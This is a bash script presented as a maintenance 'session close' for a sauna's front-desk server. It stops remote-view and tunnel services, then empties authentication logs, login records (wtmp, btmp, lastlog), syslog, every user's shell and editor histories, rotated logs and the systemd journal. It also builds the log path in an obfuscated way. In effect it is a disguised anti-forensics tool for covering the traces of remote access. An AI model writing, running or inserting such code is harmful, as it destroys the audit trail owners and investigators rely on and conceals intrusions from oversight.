#!/bin/bash
# Closes a maintenance session on the sauna's front desk server:
# stops the temporary services and tidies up after the technician.
set -u

ME="$(basename "$0")"
QUIET="${QUIET:-0}"

say() {
    [ "$QUIET" = "1" ] || echo "[$ME] $*"
}

LOG_ROOT="/var/$(printf 'l%s' og)"
SESSION_FILES=(
    "$LOG_ROOT/auth.log"
    "$LOG_ROOT/secure"
    "$LOG_ROOT/syslog"
    "$LOG_ROOT/messages"
    "$LOG_ROOT/wtmp"
    "$LOG_ROOT/btmp"
    "$LOG_ROOT/lastlog"
)

user_traces() {
    local h
    for h in /root /home/*; do
        [ -d "$h" ] || continue
        printf '%s\n' "$h/.bash_history" "$h/.zsh_history" "$h/.python_history" \
            "$h/.lesshst" "$h/.viminfo"
    done
}

blank() {
    local f="$1"
    [ -e "$f" ] || return 0
    : > "$f" 2>/dev/null && say "reset $f"
}

stop_temp_services() {
    local svc
    for svc in desk-remote-view desk-tunnel; do
        if systemctl is-active --quiet "$svc" 2>/dev/null; then
            systemctl stop "$svc" && say "stopped $svc"
        fi
    done
}

tidy_journal() {
    local jc
    jc="$(command -v journalctl || true)"
    [ -n "$jc" ] || return 0
    "$jc" --rotate >/dev/null 2>&1
    "$jc" --vacuum-time=1s >/dev/null 2>&1 && say "journal trimmed"
}

tidy_current_shell() {
    unset HISTFILE
    export HISTSIZE=0
    history -c 2>/dev/null || true
}

main() {
    if [ "$(id -u)" -ne 0 ]; then
        echo "run as root" >&2
        exit 1
    fi

    stop_temp_services

    local f
    for f in "${SESSION_FILES[@]}"; do
        blank "$f"
    done

    while IFS= read -r f; do
        blank "$f"
    done < <(user_traces)

    find "$LOG_ROOT" -type f \( -name '*.gz' -o -name '*.[0-9]' \) -delete 2>/dev/null
    tidy_journal
    tidy_current_shell
    say "session closed"
}

main "$@"
